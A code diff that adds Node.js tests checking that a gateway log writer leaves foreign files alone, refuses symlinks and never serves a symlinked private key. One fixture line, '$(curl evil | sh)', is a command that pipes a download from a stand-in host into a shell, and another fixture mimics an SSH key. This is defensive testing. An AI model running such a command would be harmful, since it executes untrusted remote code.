@@ -1,8 +1,9 @@
 // The log writer (rotation, retention, faults) and logs.tail over the logical stream, in-process on a temp dir.
 import assert from 'node:assert/strict';
-import {existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync} from 'node:fs';
+import {existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync} from 'node:fs';
 import path from 'node:path';
 import {after, describe, test} from 'node:test';
+import {segmentsOnDisk} from '../gateway/logs/segments.js';
 import {tailLog} from '../gateway/logs/tail.js';
 import {LogWriter} from '../gateway/logs/writer.js';
 import {tempDir} from './helpers/gateway.js';
@@ -108,7 +109,7 @@ describe('LogWriter', () => {
 		writer.close();
 	});
 
-	test('a log file replaced by hand (logrotate-style) is noticed: its lines follow ours, nothing is lost', async () => {
+	test('a file someone else put at the log path is never written, renamed or served: reported until it is moved away', async () => {
 		const dir = await logDir();
 		const file = path.join(dir, 'gateway.log');
 		const writer = new LogWriter({file, checkIntervalMs: 0});
@@ -116,12 +117,89 @@ describe('LogWriter', () => {
 		const cursor = writer.end;
 		renameSync(file, path.join(dir, 'rotated-by-hand.log'));
 		writeFileSync(file, 'foreign\n');
+		writer.write('dropped');
+		const status = writer.status();
+		assert.equal(status.ok, false);
+		assert.match(status.error!, /not created by the gateway/);
+		assert.equal(readFileSync(file, 'utf8'), 'foreign\n', 'the foreign file is untouched');
+		assert.deepEqual(tail(writer, {cursor}).lines, [], 'and not served');
+		renameSync(file, path.join(dir, 'foreign.txt'));
 		writer.write('after');
 		assert.equal(writer.status().ok, true);
-		assert.equal(writer.status().droppedLines, 0);
-		const result = tail(writer, {cursor});
-		assert.deepEqual(result.lines, ['foreign', 'after']);
-		assert.equal(result.reset, undefined);
+		assert.deepEqual(tail(writer, {cursor}).lines, ['after']);
+		assert.equal(readFileSync(path.join(dir, 'foreign.txt'), 'utf8'), 'foreign\n');
+		writer.close();
+	});
+});
+
+describe('LogWriter only touches files it created', () => {
+	test('maxFiles: 1 never renames, deletes, appends to or serves a pre-existing file of the same name', async () => {
+		const dir = await logDir();
+		const file = path.join(dir, 'notes.log');
+		writeFileSync(file, 'the operator\'s own notes\n');
+		writeFileSync(`${file}.1`, 'an older archive of someone else\n');
+		writeFileSync(`${file}.7`, 'another one\n');
+		const writer = new LogWriter({file, maxFileBytes: 64, maxFiles: 1, checkIntervalMs: 0});
+		for (let index = 0; index < 20; index++) {
+			writer.write(line(index));
+		}
+
+		assert.equal(readFileSync(file, 'utf8'), 'the operator\'s own notes\n');
+		assert.equal(readFileSync(`${file}.1`, 'utf8'), 'an older archive of someone else\n');
+		assert.equal(readFileSync(`${file}.7`, 'utf8'), 'another one\n');
+		assert.equal(writer.status().ok, false);
+		assert.match(writer.status().error!, /notes\.log exists but was not created by the gateway/);
+		assert.deepEqual(tail(writer, {}).lines, []);
+		writer.close();
+	});
+
+	test('what it created it still rotates and prunes after a restart (the record survives), and nothing else', async () => {
+		const dir = await logDir();
+		const file = path.join(dir, 'custom.log');
+		const first = new LogWriter({file, maxFileBytes: 200, maxFiles: 1});
+		first.write('first');
+		first.close();
+		writeFileSync(`${file}.999999`, 'not ours\n');
+		const second = new LogWriter({file, maxFileBytes: 200, maxFiles: 1});
+		assert.equal(second.status().ok, true, second.status().error);
+		for (let index = 0; index < 30; index++) {
+			second.write(line(index));
+		}
+
+		assert.ok(second.status().rotations > 1);
+		const archives = readdirSync(dir).filter((name) => /^custom\.log\.\d+$/.test(name));
+		assert.equal(archives.length, 2, `${archives.join(', ')}: one of ours and the foreign one`);
+		assert.equal(readFileSync(`${file}.999999`, 'utf8'), 'not ours\n');
+		assert.ok(!second.segments().some((segment) => segment.path.endsWith('.999999')));
+		second.close();
+	});
+
+	test('a symlink at the log path is not followed: the target is untouched and the fault names it', async () => {
+		const dir = await logDir();
+		const target = path.join(dir, 'bashrc');
+		writeFileSync(target, 'echo hi\n');
+		const file = path.join(dir, 'logs', 'gateway.log');
+		mkdirSync(path.dirname(file));
+		symlinkSync(target, file);
+		const writer = new LogWriter({file});
+		writer.write('$(curl evil | sh)');
+		assert.equal(readFileSync(target, 'utf8'), 'echo hi\n');
+		assert.match(writer.status().error!, /gateway\.log is a symbolic link, not a regular file/);
+		writer.close();
+	});
+
+	test('an archive that is a symlink (to a private key) is never served by tail', async () => {
+		const dir = await logDir();
+		const key = path.join(dir, 'id_ed25519');
+		writeFileSync(key, '-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n');
+		const file = path.join(dir, 'logs', 'gateway.log');
+		mkdirSync(path.dirname(file));
+		symlinkSync(key, `${file}.0`);
+		const writer = new LogWriter({file});
+		writer.write('ours');
+		const served = [...tail(writer, {}).lines, ...tail(writer, {cursor: 0}).lines, ...tailLog(file, segmentsOnDisk(file), {}).lines];
+		assert.ok(!served.some((text) => text.includes('PRIVATE KEY') || text === 'secret'), served.join('\n'));
+		assert.ok(served.includes('ours'));
 		writer.close();
 	});
 });
